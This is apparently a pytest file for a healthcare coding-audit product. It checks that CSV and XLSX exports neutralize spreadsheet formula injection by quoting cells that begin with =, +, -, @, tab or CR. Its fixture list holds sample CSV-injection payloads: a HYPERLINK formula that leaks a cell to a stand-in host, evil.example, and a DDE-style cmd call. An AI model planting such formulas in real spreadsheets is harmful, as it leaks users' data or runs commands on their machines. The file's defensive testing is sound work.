"""Every CSV/XLSX the product writes keeps a hostile cell as text (OWASP CSV injection guidance):
text beginning with = + - @ tab or CR gets a leading quote in CSV and is stored as text in XLSX;
numbers (negative money included) stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from codingwatch.sampling import appraise_attribute, appraise_variable, export, random_numbers
from codingwatch.sampling.frames import Frame, FrameEncounter, read_frame, write_frame
from codingwatch.spreadsheet import csv_text, neutralize, put, restore

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_the_rule_prefixes_formulas_and_leaves_numbers_and_plain_text_alone():
    assert [neutralize(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralize("-12.50") == "-12.50" and neutralize("+3") == "+3"  # a number cannot carry a formula
    assert neutralize(Decimal("-12.50")) == Decimal("-12.50") and neutralize(-7) == -7
    assert neutralize("Acme Coding") == "Acme Coding" and neutralize("") == ""
    assert neutralize("'=x") == "''=x"  # so that reading back is exact
    for value in HOSTILE + ["-12.50", "'=x", "'plain", "plain", "''-5"]:
        assert restore(neutralize(value)) == value


def test_a_csv_cell_reads_back_as_the_quoted_text_and_money_keeps_its_sign():
    text = csv_text([["name", "amount"], [HOSTILE[0], Decimal("-12.50")], ["x", -3]])
    assert list(csv.reader(io.StringIO(text))) == [["name", "amount"], ["'" + HOSTILE[0], "-12.50"], ["x", "-3"]]


def _cells(path) -> list[tuple]:
    sheet = load_workbook(path).active
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value is not None]


def _no_formula(path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)


def test_an_xlsx_cell_is_text_never_a_formula_and_numbers_stay_numbers(tmp_path):
    book = Workbook()
    put(book.active, 1, 1, HOSTILE[0])
    put(book.active, 2, 1, -12.5)
    put(book.active, 3, 1, Decimal("-12.50"))
    book.save(tmp_path / "x.xlsx")
    _no_formula(tmp_path / "x.xlsx")
    assert _cells(tmp_path / "x.xlsx") == [(HOSTILE[0], "s"), (-12.5, "n"), (-12.5, "n")]
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].quotePrefix


@pytest.mark.parametrize("hostile", HOSTILE)
def test_sampling_xlsx_exports_keep_the_audit_name_as_text(tmp_path, hostile):
    draw = random_numbers("10661935.55", 10, 1, 100, spares=1, audit_name=hostile)
    attribute = appraise_attribute(150, 100, 3)
    variable = appraise_variable(100, [Decimal("-12.50"), Decimal("10"), Decimal("0"), Decimal("3")])
    writers = {
        "draw": lambda p: export.draw_xlsx(draw, p),
        "attribute": lambda p: export.attribute_xlsx(attribute, p, hostile),
        "variable": lambda p: export.variable_xlsx({"values": variable}, p, hostile),
    }
    for name, write in writers.items():
        path = tmp_path / f"{name}.xlsx"
        write(path)
        _no_formula(path)
        cells = _cells(path)
        assert (hostile.replace("\r", "\n"), "s") in cells, name  # XML reads a CR as a newline
        assert all(t == "n" for v, t in cells if isinstance(v, int | float)), name
    assert (-12.5, "n") in _cells(tmp_path / "variable.xlsx") or any(
        v < 0 for v, t in _cells(tmp_path / "variable.xlsx") if t == "n")


def test_sampling_csv_exports_quote_a_hostile_name(tmp_path):
    variable = appraise_variable(100, [Decimal("-12.50"), Decimal("10"), Decimal("0"), Decimal("3")])
    rows = list(csv.reader(io.StringIO(export.variable_csv({HOSTILE[3]: variable}))))
    assert {r[0] for r in rows[1:]} == {"'" + HOSTILE[3]}


def test_dashboard_and_denials_csv_quote_a_hostile_group_name():
    from codingwatch.web.dashboard.figures import CSV_COLUMNS, to_csv
    from codingwatch.web.denials.services import PARETO_COLUMNS, RATE_COLUMNS, pareto_csv, rates_csv

    figures = to_csv([{c: (HOSTILE[0] if c == "key" else 1) for c in CSV_COLUMNS}], "Vendor")
    assert list(csv.reader(io.StringIO(figures)))[1][0] == "'" + HOSTILE[0]
    rates = rates_csv([{"key": HOSTILE[1], **{c: Decimal("-12.50") for c in RATE_COLUMNS}}], "vendor")
    assert list(csv.reader(io.StringIO(rates)))[1] == ["'" + HOSTILE[1]] + ["-12.50"] * len(RATE_COLUMNS)
    pareto = pareto_csv([{c: (HOSTILE[2] if c == "description" else 1) for c in PARETO_COLUMNS}])
    assert list(csv.reader(io.StringIO(pareto)))[1][PARETO_COLUMNS.index("description")] == "'" + HOSTILE[2]


def test_a_frame_file_keeps_a_hostile_vendor_as_text_and_reads_it_back_exactly(tmp_path):
    row = FrameEncounter(stratum="all", frame_number=1, encounter_key="k1", encounter_type="inpatient",
                         specialty="cardiology", vendor=HOSTILE[0], facility="@F1", coder_id="-c1",
                         frame_date="2026-01-05", drg="292", drg_weight="1.2")
    path = tmp_path / "frame.csv"
    write_frame(Frame(encounters=[row], meta={}), path)
    assert list(csv.DictReader(path.open()))[0]["vendor"] == "'" + HOSTILE[0]
    assert read_frame(path).encounters == [row]


def test_the_access_rejects_file_quotes_a_hostile_value(tmp_path, lake_root):
    from codingwatch.ingest.access import ingest_access_file
    from codingwatch.lake import open_lake

    path = tmp_path / "access.csv"
    path.write_text("occurred_at,login,event,session_id,client_ip,country,device_id,work_queue,encounter_id\n"
                    f"2026-03-02T09:00:00Z,no1,{HOSTILE[3]},s1,10.0.0.1,,pc,,E1\n")
    result = ingest_access_file(path, lake=open_lake(lake_root), rejects_dir=tmp_path)
    rows = list(csv.reader(open(result.rejects_file, newline="")))
    assert rows[1][:3] == ["2", "event", "'" + HOSTILE[3]]


def test_the_encounter_rejects_file_quotes_a_hostile_value(tmp_path, lake_root):
    from codingwatch.ingest.encounters import ingest_encounter_file
    from codingwatch.lake import open_lake
    from tests.ingest.conftest import outpatient, write_csv

    rows = outpatient("-E1", [("ICD10CM", "R07.9")], facility="F1", sex=HOSTILE[0])
    result = ingest_encounter_file(write_csv(tmp_path / "enc.csv", rows), lake=open_lake(lake_root),
                                   rejects_dir=tmp_path)
    written = list(csv.reader(open(result.rejects_file, newline="")))
    assert written[1] == ["2", "'-E1", "sex", "'" + HOSTILE[0].upper(), "must be M, F or U"]  # sex is read upper-cased
